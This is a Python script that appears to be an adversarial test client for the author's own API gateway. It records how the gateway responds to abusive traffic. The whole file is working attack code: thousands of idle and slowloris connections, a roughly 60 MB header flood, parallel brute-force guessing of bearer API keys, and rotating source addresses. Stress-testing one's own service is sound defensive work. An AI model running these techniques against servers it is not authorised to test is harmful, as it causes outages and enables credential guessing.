"""Clients that mean harm, in a process of their own: silent, slow, endless, guessing; all at once, again and again."""

import argparse
import asyncio
import itertools
import json
import random
import resource
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Sequence
from contextlib import asynccontextmanager, suppress

IDLE = 2_000
SLOW = 2_000
HEADER_BYTES = 60 * 1024 * 1024
WRONG_KEYS = 500
_GUESSERS = 50
_DRIP_S = 1.0
_COMES_BACK_S = (2.0, 8.0)
_PIECE = b"X-Long: " + b"y" * 65_526 + b"\r\n"


class Attack:
    """What is tried and what becomes of it.

    Args:
        target: host and port.
        addresses: the local addresses that connections are made from, in turn.
        seconds: when to stop.
    """

    def __init__(self, target: tuple[str, int], addresses: Sequence[str], *, seconds: float) -> None:
        self._target = target
        self._addresses: Iterator[str] = itertools.cycle(addresses)
        self._until_s = time.monotonic() + seconds
        self.seen: Counter[str] = Counter()

    async def run(self) -> None:
        """All of them at once."""
        await asyncio.gather(
            *(self._again(self._idle) for _ in range(IDLE)),
            *(self._again(self._slow) for _ in range(SLOW)),
            self._again(self._endless),
            *(self._guess(range(first, WRONG_KEYS, _GUESSERS)) for first in range(_GUESSERS)),
        )

    def _goes_on(self) -> bool:
        return time.monotonic() < self._until_s

    async def _again(self, one: Callable[[], Awaitable[None]]) -> None:
        while self._goes_on():
            with suppress(OSError, TimeoutError):
                await one()
            await asyncio.sleep(min(random.uniform(*_COMES_BACK_S), max(0.0, self._until_s - time.monotonic())))

    @asynccontextmanager
    async def _connected(self, what: str) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        reader, writer = await asyncio.open_connection(*self._target, local_addr=(next(self._addresses), 0))
        self.seen[f"{what}: connections"] += 1
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    async def _idle(self) -> None:
        async with self._connected("idle") as (reader, _), asyncio.timeout(self._until_s - time.monotonic()):
            await self._read_end("idle", reader)

    async def _slow(self) -> None:
        async with self._connected("slow") as (reader, writer):
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            while self._goes_on() and not reader.at_eof() and not writer.is_closing():
                writer.write(b"X-Slow: 1\r\n")
                with suppress(TimeoutError):
                    async with asyncio.timeout(_DRIP_S):
                        await self._read_end("slow", reader)
                        return

    async def _endless(self) -> None:
        async with self._connected("endless") as (reader, writer):
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            sent = 0
            try:
                while sent < HEADER_BYTES and not writer.is_closing():
                    writer.write(_PIECE)
                    await writer.drain()
                    sent += len(_PIECE)
            finally:
                self.seen["endless: header bytes sent"] += sent
                with suppress(TimeoutError):
                    async with asyncio.timeout(1):
                        await self._read_end("endless", reader)

    async def _guess(self, numbers: range) -> None:
        for number in numbers:
            with suppress(OSError, TimeoutError):
                async with self._connected("guess") as (reader, writer), asyncio.timeout(10):
                    key = f"amy_live_{number:043d}"
                    writer.write(
                        f"GET /v1/turns HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
                        "Connection: close\r\n\r\n".encode()
                    )
                    await self._read_end("guess", reader)

    async def _read_end(self, what: str, reader: asyncio.StreamReader) -> None:
        """Counts how the gateway ends a connection."""
        try:
            answer = await reader.read(4096)
        except ConnectionError:
            self.seen[f"{what}: reset"] += 1
        else:
            self.seen[f"{what}: {answer[9:12].decode() or 'closed'}"] += 1


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--addresses", required=True, help="local addresses, separated by commas")
    chosen = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack((chosen.host, chosen.port), chosen.addresses.split(","), seconds=chosen.seconds)
    asyncio.run(attack.run())
    print(json.dumps(dict(sorted(attack.seen.items()))))


if __name__ == "__main__":
    main()
